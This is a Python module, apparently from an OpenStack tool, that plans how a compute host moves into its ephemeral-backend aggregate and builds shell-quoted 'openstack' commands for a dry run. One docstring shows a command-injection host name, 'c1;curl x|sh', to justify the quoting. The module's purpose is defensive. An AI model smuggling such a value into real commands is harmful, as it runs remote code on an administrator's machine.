#    Licensed under the Apache License, Version 2.0 (the "License"); you may
#    not use this file except in compliance with the License. You may obtain
#    a copy of the License at
#
#         http://www.apache.org/licenses/LICENSE-2.0
#
#    Unless required by applicable law or agreed to in writing, software
#    distributed under the License is distributed on an "AS IS" BASIS, WITHOUT
#    WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied. See the
#    License for the specific language governing permissions and limitations
#    under the License.

"""Plan how a host moves into the aggregate of its ephemeral backend.

Pure: takes the aggregates as plain data and returns ordered steps. The
order is the safety property: the host leaves every other backend aggregate
*before* it joins the new one, so it is never in two backend aggregates
(which the filter would read as a conflict) and, during the move, merely
unknown, which the filter rejects for Aerospike flavors.

Sync manages only aggregates named ``aerospike-backend-<backend>``. Any other
aggregate that names a different backend for the host is reported as a
conflict for an admin to resolve, never edited: it may carry an
availability zone or other metadata.
"""

import collections
import shlex

from aerospike_filters import host_facts
from aerospike_filters import storage

AGGREGATE_PREFIX = 'aerospike-backend-'

LEAVE = 'leave'
CREATE = 'create'
SET_METADATA = 'set-metadata'
JOIN = 'join'
CONFLICT = 'conflict'

Aggregate = collections.namedtuple('Aggregate', 'id name hosts metadata')
Step = collections.namedtuple('Step', 'action aggregate command')
Step.__doc__ = """One change: ``action``, the aggregate's name, and the
equivalent ``openstack`` CLI command (shown by --dry-run)."""


def aggregate_name(backend):
    """The managed aggregate of a backend."""
    return AGGREGATE_PREFIX + backend


def is_managed(name):
    return isinstance(name, str) and name.startswith(AGGREGATE_PREFIX)


def canonical_backend(value):
    """The vocabulary name of a backend value, or ValueError."""
    backend = storage.backend_for(value)
    if backend is None:
        raise ValueError('%r is not a known ephemeral backend; use one of: '
                         '%s' % (value, storage.describe_accepted_backends()))
    return backend.name


def plan(host, backend, aggregates,
         backend_key=host_facts.DEFAULT_BACKEND_KEY):
    """The ordered steps that put ``host`` in its backend's aggregate only.

    :param host: the compute host name (nova's service host).
    :param backend: the probed backend (any accepted spelling), or None
        when unknown: the host then leaves every managed aggregate.
    :param aggregates: the cloud's aggregates, as :class:`Aggregate`.
    :returns: a list of :class:`Step`; empty when nothing is to change.
    """
    target = (aggregate_name(canonical_backend(backend))
              if backend is not None else None)
    wanted = canonical_backend(backend) if backend is not None else None
    steps = []
    for agg in aggregates:
        if host not in agg.hosts or agg.name == target:
            continue
        if is_managed(agg.name):
            steps.append(Step(LEAVE, agg.name, openstack_command(
                'aggregate', 'remove', 'host', agg.name, host)))
        elif backend_key in agg.metadata and (
                storage.backend_for(agg.metadata[backend_key]) is None or
                storage.backend_for(agg.metadata[backend_key]).name
                != wanted):
            steps.append(Step(CONFLICT, agg.name, openstack_command(
                'aggregate', 'unset', '--property', backend_key, agg.name)))
    if target is None:
        return steps
    existing = [a for a in aggregates if a.name == target]
    metadata = '%s=%s' % (backend_key, wanted)
    if not existing:
        steps.append(Step(CREATE, target, openstack_command(
            'aggregate', 'create', '--property', metadata, target)))
    elif existing[0].metadata.get(backend_key) != wanted:
        steps.append(Step(SET_METADATA, target, openstack_command(
            'aggregate', 'set', '--property', metadata, target)))
    if not existing or host not in existing[0].hosts:
        steps.append(Step(JOIN, target, openstack_command(
            'aggregate', 'add', 'host', target, host)))
    return steps


def openstack_command(*words):
    """An ``openstack`` command line, every word shell-quoted.

    Host names come from the computes' own nova.conf: a name such as
    ``c1;curl x|sh`` must reach the admin's shell as one word.
    """
    return ' '.join(['openstack'] + [shlex.quote(w) for w in words])


def aggregates_after(host, backend, aggregates,
                     backend_key=host_facts.DEFAULT_BACKEND_KEY):
    """The aggregates as :func:`plan`'s steps leave them (for a dry run).

    Conflicting aggregates, which sync never edits, stay as they are.
    """
    target = (aggregate_name(canonical_backend(backend))
              if backend is not None else None)
    result = []
    for agg in aggregates:
        hosts = list(agg.hosts)
        if host in hosts and is_managed(agg.name) and agg.name != target:
            hosts.remove(host)
        if agg.name == target:
            if host not in hosts:
                hosts.append(host)
            agg = agg._replace(metadata=dict(
                agg.metadata, **{backend_key: canonical_backend(backend)}))
        result.append(agg._replace(hosts=hosts))
    if target is not None and target not in [a.name for a in aggregates]:
        result.append(Aggregate(None, target, [host], {
            backend_key: canonical_backend(backend)}))
    return result
